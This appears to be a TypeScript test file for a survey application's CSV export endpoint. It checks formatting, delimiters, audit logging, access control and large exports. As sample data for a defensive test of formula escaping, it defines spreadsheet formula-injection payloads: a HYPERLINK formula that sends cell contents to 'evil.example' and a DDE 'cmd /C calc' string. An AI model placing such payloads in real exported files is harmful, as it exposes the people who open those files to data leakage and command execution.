import { parse } from 'csv-parse/sync';
import { beforeEach, describe, expect, it } from 'vitest';
import { createTestApp, request, type TestApp } from '../support/app.ts';
import { type SignedInPerson, signIn, signInSecretariat } from '../support/auth.ts';
import { answers, createRound, send, submit } from '../support/rounds.ts';
import { createOrganisation, need, orgNumber } from '../support/surveys.ts';

let t: TestApp;
let admin: SignedInPerson;
let anna: SignedInPerson;
let roundId: string;
let skills: { id: string; label_sv: string }[];
const EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Klicka här")';

beforeEach(async () => {
  t = await createTestApp();
  admin = await signInSecretariat(t);
  await createOrganisation(t, 'org-a', { orgNumber: orgNumber(1) });
  await createOrganisation(t, 'org-b', { orgNumber: orgNumber(2), municipality: '1082', sizeClass: '250+' });
  await createOrganisation(t, 'org-c', { orgNumber: orgNumber(3) });
  anna = await signIn(t, { memberships: [{ organisationId: 'org-a' }] });
  roundId = await createRound(t, admin);
  await send(t, 'POST', `/api/v1/rounds/${roundId}/open`, admin);
  skills = await t.deps.db
    .selectFrom('occupation_skills as os')
    .innerJoin('skills as s', 's.id', 'os.skill_id')
    .select(['s.id', 's.label_sv'])
    .where('os.occupation_id', '=', 'DJh5_yyF_hEM')
    .orderBy('s.id')
    .limit(2)
    .execute();
});

const needs = () => [
  need({
    skillIds: skills.map((s) => s.id),
    specialisations: [
      { code: 'tech', focusAreas: ['ai', 'big-data'] },
      { code: 'missions', focusAreas: [] },
    ],
    comment: EVIL,
  }),
  need({
    occupationId: 'ek9W_qqp_XpF',
    horizon: '0-1',
    educationLevel: 'doctoral',
    strategies: ['train-staff'],
    placementOffer: null,
    comment: 'Ett "citat", ett kommatecken; och\nen ny rad',
  }),
];

async function exportCsv(query = '', who = admin) {
  return request(t.app, `/api/v1/rounds/${roundId}/responses.csv${query}`, { headers: { cookie: who.cookie } });
}

describe('GET /api/v1/rounds/{id}/responses.csv', () => {
  it('writes one row per need line with codes and names, and parses back to what was submitted', async () => {
    await submit(t, anna, roundId, 'org-a', { organisation: answers, needs: needs() });
    await submit(t, admin, roundId, 'org-b', { organisation: { employeesNow: 300, contactConsent: false }, needs: [] });
    await send(t, 'PUT', `/api/v1/rounds/${roundId}/responses/org-c`, admin, {
      version: 0,
      organisation: {},
      needs: [need()],
    });
    const response = await exportCsv();
    expect(response.status).toBe(200);
    expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(response.headers.get('content-disposition')).toMatch(/^attachment; filename="svar-[\w-]+\.csv"$/);
    const bytes = new Uint8Array(await response.arrayBuffer());
    expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const rows = parse(new TextDecoder().decode(bytes), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((r) => [r.organisationId, r.line])).toEqual([
      ['org-a', '1'],
      ['org-a', '2'],
      ['org-b', ''],
    ]);
    const [first, second, third] = rows;
    expect(first).toMatchObject({
      organisationName: 'Organisation org-a',
      orgNumber: orgNumber(1),
      sector: 'naringsliv',
      sizeClass: '10-49',
      municipalityCode: '1080',
      municipalityName: 'Karlskrona',
      employeesNow: '40',
      expectedChange1y: '-3',
      expectedChange3y: '8',
      obstacles: 'few-applicants|housing',
      obstaclesOther: 'Bostäder i Karlskrona',
      providerInterest: 'yes',
      contactConsent: 'true',
      revision: '1',
      onBehalf: 'false',
      occupationId: 'DJh5_yyF_hEM',
      ssykCode: '2512',
      skillIds: skills.map((s) => s.id).join('|'),
      skillNames: skills.map((s) => s.label_sv).join(' | '),
      specialisations: 'tech|missions',
      focusAreas: 'ai|big-data',
      headcount: '3',
      horizon: '1-3',
      educationLevel: 'bachelor',
      difficulty: '4',
      strategies: 'recruit-local|remote',
      placementKinds: 'lia|exjobb',
      placementCount: '2',
    });
    expect(first?.occupationName).toMatch(/utvecklare/i);
    expect(first?.specialisationNames?.split(' | ')).toHaveLength(2);
    expect(first?.focusAreaNames?.split(' | ')).toHaveLength(2);
    expect(first?.educationLevelName).toContain('Kandidat');
    expect(second).toMatchObject({
      line: '2',
      occupationId: 'ek9W_qqp_XpF',
      ssykCode: '2213',
      horizon: '0-1',
      educationLevel: 'doctoral',
      strategies: 'train-staff',
      placementKinds: '',
      placementCount: '',
      comment: 'Ett "citat", ett kommatecken; och\nen ny rad',
      specialisations: 'tech',
      focusAreas: 'mjukvaruutveckling',
    });
    expect(third).toMatchObject({
      sizeClass: '250+',
      municipalityCode: '1082',
      employeesNow: '300',
      contactConsent: 'false',
      onBehalf: 'true',
      occupationId: '',
      headcount: '',
    });
  });

  it('neutralises every cell a spreadsheet would run as a formula, and leaves numbers be', async () => {
    await submit(t, anna, roundId, 'org-a', {
      organisation: { ...answers, obstaclesOther: '@SUM(1+1)*cmd|" /C calc"!A0' },
      needs: [
        needs()[0],
        need({ comment: '+46 455 12 34 56' }),
        need({ comment: '-1+1' }),
        need({ comment: '@lunch' }),
      ],
    });
    const rows = parse(await (await exportCsv()).text(), { bom: true, columns: true }) as Record<string, string>[];
    expect(rows.map((r) => r.comment)).toEqual([`'${EVIL}`, "'+46 455 12 34 56", "'-1+1", "'@lunch"]);
    expect(rows[0]?.obstaclesOther).toBe(`'@SUM(1+1)*cmd|" /C calc"!A0`);
    expect(rows[0]?.expectedChange1y).toBe('-3');
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r]/);
  });

  it('writes semicolons for Excel with Swedish settings when asked', async () => {
    await submit(t, anna, roundId, 'org-a', { organisation: answers, needs: needs() });
    const rows = parse(await (await exportCsv('?delimiter=semicolon')).text(), {
      bom: true,
      columns: true,
      delimiter: ';',
    }) as Record<string, string>[];
    expect(rows).toHaveLength(2);
    expect(rows[1]?.comment).toBe('Ett "citat", ett kommatecken; och\nen ny rad');
  });

  it('records the read of raw answers in the audit log, and is for the secretariat only', async () => {
    expect((await exportCsv('', anna)).status).toBe(403);
    expect((await exportCsv()).status).toBe(200);
    const audit = await t.deps.db
      .selectFrom('audit_log')
      .select(['action', 'target_type', 'target_id', 'actor_user_id'])
      .where('action', '=', 'raw-answers.read')
      .execute();
    expect(audit).toEqual([
      { action: 'raw-answers.read', target_type: 'round', target_id: roundId, actor_user_id: admin.userId },
    ]);
  });

  it('streams a round of many organisations whole', async () => {
    for (let i = 0; i < 450; i++) {
      await createOrganisation(t, `org-m${String(i).padStart(3, '0')}`, { orgNumber: orgNumber(1000 + i) });
    }
    const rows = Array.from({ length: 450 }, (_, i) => {
      const id = `org-m${String(i).padStart(3, '0')}`;
      return { id, document: JSON.stringify({ organisation: { employeesNow: i }, needs: [] }) };
    });
    // Submitted rows straight into the tables (the API path is tested above); 450 > two chunks.
    for (const row of rows) {
      await t.deps.db
        .insertInto('responses')
        .values({
          round_id: roundId,
          organisation_id: row.id,
          version: 1,
          status: 'submitted',
          draft: row.document,
          updated_at: '2026-11-28T09:00:00Z',
          revision: 1,
          submitted_version: 1,
        })
        .execute();
      await t.deps.db
        .insertInto('response_revisions')
        .values({
          id: `rev-${row.id}`,
          round_id: roundId,
          organisation_id: row.id,
          revision: 1,
          submission_id: `sub-${row.id}`,
          document: row.document,
          changes: '{}',
          submitted_by: null,
          on_behalf: 0,
          submitted_at: '2026-11-28T09:00:00Z',
        })
        .execute();
      await t.deps.db
        .insertInto('submitted_responses')
        .values({
          round_id: roundId,
          organisation_id: row.id,
          revision: 1,
          sector: 'naringsliv',
          size_class: '10-49',
          municipality_code: '1080',
          obstacles: '[]',
          sni_section: null,
          employees_now: null,
          expected_change_1y: null,
          expected_change_3y: null,
          provider_interest: null,
          contact_consent: 0,
          submitted_at: '2026-11-28T09:00:00Z',
        })
        .execute();
    }
    const parsed = parse(await (await exportCsv()).text(), { bom: true, columns: true }) as Record<string, string>[];
    expect(parsed.map((r) => Number(r.employeesNow))).toEqual(rows.map((_, i) => i));
  });
});
